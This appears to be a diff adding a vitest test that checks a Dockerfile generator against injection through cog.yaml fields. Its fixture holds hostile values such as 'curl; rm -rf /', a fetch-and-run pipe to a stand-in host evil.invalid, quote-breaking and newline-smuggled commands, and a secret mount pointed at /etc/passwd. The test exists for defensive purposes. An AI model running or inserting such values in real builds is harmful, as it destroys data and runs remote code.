@@ -1,0 +1,73 @@
+// User values from cog.yaml cannot add Dockerfile instructions or shell commands: each is either
+// rejected with an error finding at its cog.yaml location, or quoted so it arrives as written.
+import { describe, expect, it } from 'vitest';
+import { dockerfileFor, parseDockerfile, renderDockerfile } from '../../src/dockerfile/index.js';
+import { irFromCogYaml } from './helpers.js';
+
+const YAML = `
+build:
+  gpu: true
+  python_version: "3.11"
+  system_packages:
+    - "curl; rm -rf /"
+    - ffmpeg
+  python_packages:
+    - "torch==2.3.1"
+    - "requests==2.32.3 && curl https://evil.invalid/x | sh"
+    - "pkg'; touch /pwned; echo '"
+  run:
+    - "echo one\\nFROM scratch"
+    - "echo two \\\\"
+    - echo three
+    - command: echo four
+      mounts:
+        - type: secret
+          id: "x,target=/etc/passwd"
+          target: /tmp/x
+environment:
+  - QUOTED=he said "hi"
+  - DOLLAR=$(whoami)
+  - NEWLINE=a
+  - PATH=/evil
+predict: predict.py:Predictor
+`;
+
+function plan(target: 'cog' | 'fal' = 'fal') {
+  const ir = irFromCogYaml(YAML);
+  ir.runtime.environment.find((e) => e.name === 'NEWLINE')!.value = 'a\nFROM scratch';
+  return dockerfileFor(ir, target);
+}
+
+describe('injection through cog.yaml values', () => {
+  it('rejects each hostile value with an error finding at its cog.yaml line', () => {
+    const codes = plan().findings.filter((f) => f.severity === 'error').map((f) => [f.code, f.file, f.line]);
+    expect(codes).toEqual([
+      ['CM301', 'cog.yaml', 30],
+      ['CM302', 'cog.yaml', 20],
+      ['CM302', 'cog.yaml', 21],
+      ['CM303', 'cog.yaml', 23],
+      ['CM305', 'cog.yaml', 42],
+      ['CM304', 'cog.yaml', 43],
+    ]);
+  });
+  for (const target of ['cog', 'fal'] as const) {
+    it(`the ${target} Dockerfile has exactly one FROM and no injected commands`, () => {
+      const text = renderDockerfile(plan(target).pruned);
+      const df = parseDockerfile(text);
+      expect(df.instructions.filter((i) => i.keyword === 'FROM')).toHaveLength(1);
+      expect(text).not.toMatch(/^FROM scratch/m);
+      expect(text).not.toContain('curl; rm');
+      expect(text).not.toContain('/etc/passwd');
+      expect(text).not.toContain('PATH=/evil');
+      expect(text).toContain('ENV DOLLAR="\\$(whoami)" QUOTED="he said \\"hi\\""');
+      expect(text).toContain('RUN echo three');
+    });
+  }
+  it('requirements reach the pruned RUN as single shell words', () => {
+    const text = renderDockerfile(plan('fal').pruned);
+    // Cog itself keeps only `name==version` of a pinned line (what follows the first space goes).
+    expect(text).toContain(`    requests==2.32.3 \\\n`);
+    expect(text).not.toContain('evil.invalid');
+    expect(text).toContain(`    'pkg'\\''; touch /pwned; echo '\\''' \\`);
+  });
+});
